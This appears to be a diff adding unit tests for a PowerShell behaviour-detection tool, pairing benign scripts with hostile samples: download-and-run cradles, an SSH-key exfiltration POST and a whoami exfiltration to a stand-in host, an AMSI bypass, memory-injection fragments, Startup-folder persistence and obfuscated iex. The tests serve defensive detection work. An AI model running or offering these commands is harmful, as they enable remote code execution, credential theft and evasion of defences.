@@ -1,0 +1,88 @@
+"""What PowerShell does, with what flows into what; everyday scripts beside it."""
+
+import pytest
+
+from tests.unit.triage.facts.reading import acts, chains, told
+from vedette.triage.fact import Act, When
+from vedette.triage.kinds import Kind
+
+PS = Kind.POWERSHELL
+
+
+@pytest.mark.parametrize(
+    ("code", "chain"),
+    [
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/a')",
+            (Act.RUNS_CODE, Act.DOWNLOADS),
+        ),
+        ("$c = iwr http://a.invalid/a -UseBasicParsing; iex $c.Content", (Act.RUNS_CODE, Act.DOWNLOADS)),
+        ("irm http://a.invalid/a | iex", (Act.RUNS_CODE, Act.DOWNLOADS)),
+        ("iex (curl http://a.invalid/a)", (Act.RUNS_CODE, Act.DOWNLOADS)),
+        (
+            "iwr http://a.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
+            (Act.RUNS_COMMAND, Act.DOWNLOADS),
+        ),
+        (
+            '$p = "$env:TEMP\\b.exe"\n(New-Object Net.WebClient).DownloadFile("http://a.invalid/b", $p)\n& $p',
+            (Act.RUNS_COMMAND, Act.DOWNLOADS),
+        ),
+        (
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobyBoaSB0aGVyZQ==')))",
+            (Act.RUNS_CODE, Act.DECODES),
+        ),
+        (
+            "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAA='))",
+            (Act.LOADS_CODE, Act.DECODES),
+        ),
+        (
+            "$d = Get-Content ~\\.ssh\\id_rsa\nInvoke-RestMethod http://a.invalid -Method Post -Body $d",
+            (Act.SENDS, Act.READS_SECRET),
+        ),
+        ('$w = whoami; iwr "http://a.invalid/?$w"', (Act.SENDS, Act.READS_HOST)),
+        ("$t = New-Object Net.Sockets.TcpClient('198.51.100.7', 443)", (Act.CONNECTS,)),
+        (
+            "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed')",
+            (Act.DISABLES_DEFENCE,),
+        ),
+        (
+            "Add-Type '[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a);'",
+            (Act.INJECTS,),
+        ),
+        ("[Runtime.InteropServices.Marshal]::Copy($b, 0, $p, $b.Length)", (Act.INJECTS,)),
+        (
+            "Set-Content \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat\" 'x'",
+            (Act.PERSISTS,),
+        ),
+        ("Start-Sleep -Seconds 600", (Act.EVADES,)),
+        ("&('ie'+'x') 'echo hi there'", (Act.OBFUSCATED,)),
+        ("i`E`x 'echo hi there'", (Act.OBFUSCATED,)),
+        ("Get-Clipboard", (Act.READS_CLIPBOARD,)),
+    ],
+)
+def test_what_it_does_and_from_what(code: str, chain: tuple[Act, ...]) -> None:
+    assert chain in chains(code, PS)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "Write-Host 'hello'; Get-ChildItem | Sort-Object Length",
+        "$x = 1..10 | ForEach-Object { $_ * 2 }\nif ($x -gt 3) { Write-Output $x }",
+        "function Add-Two($a, $b) { return $a + $b }\nAdd-Two 1 2",
+        "$log = Join-Path $PSScriptRoot 'build.log'\nSet-Content $log 'done'",
+    ],
+)
+def test_everyday_scripts_accuse_nobody(code: str) -> None:
+    assert acts(code, PS) <= {Act.WRITES_FILE, Act.READS_FILE}
+
+
+def test_a_fact_says_where_it_stands() -> None:
+    (fact,) = [one for one in told("echo ü\nirm http://a.invalid/a\n", PS) if one.act is Act.DOWNLOADS]
+    assert fact.quote == "irm http://a.invalid/a"
+    assert fact.when is When.RUN
+    assert (fact.place.line, fact.place.column, fact.place.end_column) == (2, 1, 23)  # type: ignore[union-attr]
+
+
+def test_a_function_nobody_calls_is_read_too() -> None:
+    assert Act.DOWNLOADS in acts("function f { irm http://a.invalid/a }", PS)
